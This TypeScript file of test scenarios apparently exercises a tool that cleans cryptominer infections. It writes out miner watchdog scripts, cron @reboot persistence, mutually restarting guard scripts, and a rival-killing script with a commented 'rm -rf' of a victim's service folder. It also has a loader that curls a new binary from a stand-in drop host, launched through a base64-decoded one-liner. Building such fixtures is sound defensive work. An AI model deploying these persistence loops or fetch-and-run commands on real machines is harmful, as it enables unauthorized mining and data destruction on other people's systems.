import type { Scenario } from './scenario.ts';
import { addCron, dropHost, minerWords } from './words.ts';

/** What revives a miner, as scripts really do it: with children that come and go. */
export const guards: readonly Scenario[] = [
  {
    name: 'a guard script that sleeps',
    report: 'Most reports: a script asks pgrep each second and starts the miner again.',
    images: ['/var/tmp/.X11/kdevtmpfsi'],
    files: {
      '/var/tmp/.X11/watch.sh': `#!/bin/sh
while true; do
  if ! pgrep -x kdevtmpfsi >/dev/null; then
    nohup /var/tmp/.X11/kdevtmpfsi >/dev/null 2>&1 &
  fi
  sleep 1
done
`,
    },
    start: `${addCron('root', ['@reboot /var/tmp/.X11/watch.sh >/dev/null 2>&1'])}
run /var/tmp/.X11/watch.sh`,
    runs: ['/var/tmp/.X11/kdevtmpfsi', '/var/tmp/.X11/watch.sh'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/var/tmp/.X11/watch.sh', '/var/tmp/.X11/kdevtmpfsi'],
        delete: ['/var/tmp/.X11/watch.sh', '/var/tmp/.X11/kdevtmpfsi'],
        cron: ['@reboot /var/tmp/.X11/watch.sh >/dev/null 2>&1'],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'a watchdog in its folder',
    report: 'XXL-JOB and salt cases: `cd D`, then pgrep or ./x, every five seconds, in a subshell of bash.',
    images: ['/opt/.cache/kswapd0'],
    files: {
      '/opt/.cache/run': `#!/bin/bash
cd /opt/.cache
( while true; do pgrep -f kswapd0 >/dev/null || ./kswapd0 ${minerWords}; sleep 5; done ) >/dev/null 2>&1 &
wait
`,
    },
    start: `${addCron('root', ['*/30 * * * * cd /opt/.cache && ./run >/dev/null 2>&1'])}
(cd /opt/.cache; exec setsid nohup ./kswapd0 ${minerWords} >/dev/null 2>&1 </dev/null) &
run /opt/.cache/run`,
    runs: ['/opt/.cache/kswapd0', '/opt/.cache/run'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/opt/.cache/run', '/opt/.cache/kswapd0'],
        delete: ['/opt/.cache/run', '/opt/.cache/kswapd0'],
        cron: ['*/30 * * * * cd /opt/.cache && ./run >/dev/null 2>&1'],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'a script that kills rivals by name',
    report: 'Loaders name what they fight: the victim’s own services among them.',
    images: ['/tmp/.font/python'],
    files: {
      '/tmp/.font/up.sh': `#!/bin/bash
netstat -anp 2>/dev/null | grep 198.51.100.200:3333 | awk '{print $7}' | cut -d/ -f1 | xargs -r -I % kill -9 %
pkill -0 -f /tmp/build-4711/compile
ps aux | grep -v grep | grep /srv/pay/payd.sh | awk '{print $2}' >/dev/null
test -x /srv/pay/payd.sh || true
# rm -rf /srv/pay; chattr -i /usr/local/bin/backup
while :; do
  if ps -e -o args | grep -v grep | grep -q '^/tmp/.font/python'; then :; else setsid nohup /tmp/.font/python & fi
  sleep 2
done
`,
      '/srv/pay/payd.sh': '#!/bin/sh\nwhile sleep 1; do :; done\n',
    },
    start: `run /srv/pay/payd.sh
run /tmp/.font/up.sh`,
    runs: ['/tmp/.font/python', '/tmp/.font/up.sh', '/srv/pay/payd.sh'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/tmp/.font/up.sh', '/tmp/.font/python'],
        delete: ['/tmp/.font/up.sh', '/tmp/.font/python'],
        cron: [],
      },
      bystanders: ['/srv/pay/payd.sh', '/tmp/build-4711/compile', '/usr/local/bin/backup'],
      ending: 'cleaned',
    },
  },
  {
    name: 'a guard that is called crond',
    report: 'Guards take the names of services; a name is no excuse.',
    images: ['/tmp/.x/wnTKYg'],
    files: {
      '/tmp/.x/crond': `#!/bin/sh
while :; do
  pidof wnTKYg >/dev/null || /tmp/.x/wnTKYg &
  sleep 1
done
`,
    },
    start: 'run /tmp/.x/crond',
    runs: ['/tmp/.x/crond', '/tmp/.x/wnTKYg'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/tmp/.x/crond', '/tmp/.x/wnTKYg'],
        delete: ['/tmp/.x/crond', '/tmp/.x/wnTKYg'],
        cron: [],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'two guards that start each other and a miner',
    report: 'ddg and others: either half brings the other back.',
    images: ['/usr/local/games/sysupdate'],
    files: {
      '/usr/local/games/a.sh': `#!/bin/sh
while sleep 1; do
  pgrep -f /usr/local/games/b.sh >/dev/null || setsid sh /usr/local/games/b.sh &
done
`,
      '/usr/local/games/b.sh': `#!/bin/sh
while sleep 1; do
  pgrep -f /usr/local/games/a.sh >/dev/null || setsid sh /usr/local/games/a.sh &
  pgrep -x sysupdate >/dev/null || /usr/local/games/sysupdate ${minerWords} &
done
`,
    },
    start: 'run sh /usr/local/games/a.sh',
    runs: ['/usr/local/games/a.sh', '/usr/local/games/b.sh', '/usr/local/games/sysupdate'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/usr/local/games/a.sh', '/usr/local/games/b.sh', '/usr/local/games/sysupdate'],
        delete: ['/usr/local/games/a.sh', '/usr/local/games/b.sh', '/usr/local/games/sysupdate'],
        cron: [],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'a loader that hangs in its download, and a decoded one-liner',
    report: 'The procedure’s i.sh, started as `echo … | base64 -d | sh`.',
    images: ['/tmp/.ssh-agent/httpd'],
    files: {
      '/tmp/.ssh-agent/i.sh': `#!/bin/sh
pgrep -x httpd >/dev/null || nohup /tmp/.ssh-agent/httpd >/dev/null 2>&1 &
curl -fsSL http://${dropHost}/httpd.new -o /tmp/.ssh-agent/httpd.new && chmod +x /tmp/.ssh-agent/httpd.new
`,
    },
    start: `echo ${Buffer.from('(exec setsid nohup sh /tmp/.ssh-agent/i.sh >/dev/null 2>&1 </dev/null) &\n').toString('base64')} | base64 -d | sh`,
    runs: ['/tmp/.ssh-agent/i.sh', '/tmp/.ssh-agent/httpd', 'httpd.new'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/tmp/.ssh-agent/i.sh', '/tmp/.ssh-agent/httpd'],
        delete: ['/tmp/.ssh-agent/i.sh', '/tmp/.ssh-agent/httpd'],
        cron: [],
      },
      may: [`curl -fsSL http://${dropHost}/httpd.new -o /tmp/.ssh-agent/httpd.new`],
      bystanders: [],
      ending: 'cleaned',
    },
  },
];
